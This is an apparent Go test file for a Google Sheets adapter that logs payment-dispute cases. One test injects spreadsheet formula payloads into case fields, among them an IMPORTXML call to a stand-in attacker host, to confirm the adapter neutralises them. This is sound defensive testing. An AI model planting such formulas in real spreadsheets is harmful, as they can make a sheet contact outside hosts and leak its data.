package sheets

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/oauth2"

	"github.com/rebuttal-hq/rebuttal/dispute"
	"github.com/rebuttal-hq/rebuttal/integrations"
	"github.com/rebuttal-hq/rebuttal/integrations/vendortest"
	standin "github.com/rebuttal-hq/rebuttal/simulator/sheets"
)

const key = "cs_abcdefghij234567/1/report/sheet/opened/chargeback"

var noon = time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC)

func report() integrations.Report {
	return integrations.Report{
		Moment: dispute.MomentOpened, At: noon, Queue: "senior", Rule: "high-value", URL: "https://rebuttal.example/cases/cs_abcdefghij234567",
		Case: dispute.Case{
			ID: "cs_abcdefghij234567", Ref: dispute.Ref{Connection: "stripe-us", ID: "du_1"}, Merchant: "acme", Family: dispute.FamilyProductNotReceived,
			Deadline: dispute.Deadline{At: noon.Add(77 * time.Hour)},
			View: dispute.View{Snapshot: dispute.Snapshot{
				Amount: dispute.Money{Minor: 52900, Currency: "USD"}, Network: "visa", NetworkCode: "13.1", Stage: dispute.StageChargeback,
			}},
			Payment: &dispute.Payment{Email: "buyer@shopper.example"},
		},
	}
}

func settings(url string) Settings {
	return Settings{
		SpreadsheetID: standin.SpreadsheetID, Sheet: standin.Tab, BaseURL: url,
		ServiceAccount: standin.New(time.Now).ServiceAccount(url + "/token"),
	}
}

func connect(t *testing.T, s Settings) *adapter {
	t.Helper()
	a, err := s.Connect(integrations.Deps{HTTP: &http.Client{}, Now: time.Now, Log: slog.New(slog.DiscardHandler)}, "sheet")
	if err != nil {
		t.Fatal(err)
	}
	return a.(*adapter)
}

func TestVendor(t *testing.T) {
	t.Parallel()
	one := func(do func(ctx context.Context, a *adapter) error) func(context.Context, integrations.Adapter) error {
		return func(ctx context.Context, a integrations.Adapter) error { return do(ctx, a.(*adapter)) }
	}
	first := func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, `{"values":[["Key"]],"updates":{"updatedRange":"Disputes!A2:S2"}}`)
	}
	vendortest.Run(t, vendortest.Spec{
		New: func(t *testing.T, url string) integrations.Adapter {
			a := connect(t, settings(url))
			a.tokens.kept = &oauth2.Token{AccessToken: standin.Token, Expiry: time.Now().Add(time.Hour)}
			return a
		},
		Secret:  standin.Token,
		StandIn: func() http.Handler { return standin.New(time.Now) },
		Calls: []vendortest.Call{
			{Name: "find report", Do: one(func(ctx context.Context, a *adapter) error {
				_, _, err := a.FindReport(ctx, key, report())
				return err
			})},
			{Name: "first report", Key: key, Serve: first, Do: one(func(ctx context.Context, a *adapter) error {
				_, err := a.Report(ctx, key, report())
				return err
			})},
			{Name: "report", Write: true, Key: key, Serve: first, Do: one(func(ctx context.Context, a *adapter) error {
				a.headed.Store(true)
				_, err := a.Report(ctx, key, report())
				return err
			})},
		},
	})
}

func TestReport(t *testing.T) {
	t.Parallel()
	s := standin.New(time.Now)
	conf := settings(vendortest.Serve(t, s))
	a := connect(t, conf)
	if _, found, err := a.FindReport(t.Context(), key, report()); found || err != nil {
		t.Fatalf("an empty tab: %v, %v", found, err)
	}
	for i, k := range []string{key, key + "/2"} {
		if _, err := a.Report(t.Context(), k, report()); err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			a = connect(t, conf) // after a start
		}
	}
	decided := report()
	decided.Moment, decided.Outcome = dispute.MomentDecided, dispute.StatusLost
	if _, err := a.Report(t.Context(), key+"/3", decided); err != nil {
		t.Fatal(err)
	}
	id, found, err := a.FindReport(t.Context(), key+"/2", report())
	if id != "Disputes!A3" || !found || err != nil {
		t.Errorf("%s, %v, %v", id, found, err)
	}
	rows := s.Rows()
	vendortest.Golden(t, filepath.Join("testdata", "rows.golden"), rows)
	if text := strings.Join(rows[1], " "); strings.Contains(text, "shopper") {
		t.Error("the row holds the customer's address")
	}
}

// TestFormulas puts formulas where strangers' words could be.
func TestFormulas(t *testing.T) {
	t.Parallel()
	s := standin.New(time.Now)
	a := connect(t, settings(vendortest.Serve(t, s)))
	for _, evil := range []string{`=IMPORTXML("https://evil.example","//a")`, "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1"} {
		r := report()
		r.Case.ID, r.Case.Ref.ID, r.Case.View.Snapshot.NetworkCode, r.Queue = evil, evil, evil, evil
		if _, err := a.Report(t.Context(), key, r); err != nil {
			t.Fatal(err)
		}
	}
	for _, row := range s.Rows() {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("a cell begins as a formula: %q", cell)
			}
		}
	}
}

func TestSomebodysOwnTab(t *testing.T) {
	t.Parallel()
	a := connect(t, settings(vendortest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet && r.URL.Path != "/token" {
			t.Errorf("%s %s on somebody's own tab", r.Method, r.URL.Path)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"access_token":"x","token_type":"Bearer","values":[["Payroll"]]}`)
	}))))
	if _, err := a.Report(t.Context(), key, report()); dispute.KindOf(err) != dispute.Invalid {
		t.Errorf("%v", err)
	}
}

func TestErrors(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		status int
		word   string
		want   dispute.Kind
	}{
		"quota":               {429, "RESOURCE_EXHAUSTED", dispute.RateLimited},
		"quota as a refusal":  {403, "RESOURCE_EXHAUSTED", dispute.RateLimited},
		"not shared":          {403, "PERMISSION_DENIED", dispute.Auth},
		"no such tab":         {400, "INVALID_ARGUMENT", dispute.Invalid},
		"no such spreadsheet": {404, "NOT_FOUND", dispute.NotFound},
		"Google is away":      {503, "UNAVAILABLE", dispute.UnknownOutcome},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := connect(t, settings(vendortest.Serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.WriteHeader(tt.status)
				_, _ = io.WriteString(w, `{"error":{"status":"`+tt.word+`","message":"quotes what was sent"}}`)
			}))))
			a.tokens.kept = &oauth2.Token{AccessToken: "x", Expiry: time.Now().Add(time.Hour)}
			a.headed.Store(true)
			_, err := a.Report(t.Context(), key, report())
			if dispute.KindOf(err) != tt.want || !strings.Contains(err.Error(), tt.word) || strings.Contains(err.Error(), "quotes") {
				t.Errorf("%v, want kind %s and %s", err, tt.want, tt.word)
			}
		})
	}
}

func TestTokenRefused(t *testing.T) {
	t.Parallel()
	s := settings(vendortest.Serve(t, standin.New(func() time.Time { return time.Now().AddDate(1, 0, 0) }))) // our clock is behind
	if err := connect(t, s).Check(t.Context()); dispute.KindOf(err) != dispute.Auth {
		t.Errorf("%v", err)
	}
	s.Sheet = "Other"
	s.BaseURL = vendortest.Serve(t, standin.New(time.Now))
	s.TokenURL = s.BaseURL + "/token"
	if err := connect(t, s).Check(t.Context()); dispute.KindOf(err) != dispute.Invalid || !strings.Contains(err.Error(), `"Other"`) {
		t.Errorf("a tab that is not there: %v", err)
	}
}

func TestSettings(t *testing.T) {
	t.Parallel()
	for want, bend := range map[string]func(s *Settings){
		"spreadsheet_id":  func(s *Settings) { s.SpreadsheetID = "https://docs.google.com/x" },
		"sheet":           func(s *Settings) { s.Sheet = "" },
		"service_account": func(s *Settings) { s.ServiceAccount = `{"type":"authorized_user"}` },
		"missing":         func(s *Settings) { s.ServiceAccount = "" },
		"base_url":        func(s *Settings) { s.BaseURL = "sheets.example" },
	} {
		s := settings("https://sheets.googleapis.com")
		bend(&s)
		if _, err := s.Connect(integrations.Deps{}, "sheet"); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: %v", want, err)
		}
	}
}

func TestPath(t *testing.T) {
	t.Parallel()
	a := &adapter{sheet: "Ana's/1", root: "/v4/spreadsheets/x"}
	if diff := cmp.Diff("/v4/spreadsheets/x/values/%27Ana%27%27s%2F1%27%21A:A", a.path("A:A")); diff != "" {
		t.Error(diff)
	}
}
